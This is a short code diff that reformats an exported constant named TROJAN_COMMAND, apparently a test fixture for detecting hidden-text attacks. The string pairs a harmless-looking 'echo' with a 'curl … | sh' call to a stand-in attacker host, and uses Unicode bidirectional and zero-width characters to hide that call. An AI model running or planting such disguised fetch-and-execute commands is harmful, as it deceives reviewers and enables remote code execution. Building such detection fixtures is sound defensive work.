@@ -5,4 +5,5 @@
  * U+200B and U+202E sit in the comment.
  */
 export const TROJAN_COMMAND =
-  'echo cleaning build dir \u2067\u2066; curl -s https://evil.example/x | sh -s -- \u2069\u2066 #\u200B\u202E\u2069\u2069';
+  'echo cleaning build dir \u2067\u2066; curl -s https://evil.example/x | sh -s -- ' +
+  '\u2069\u2066 #\u200B\u202E\u2069\u2069';
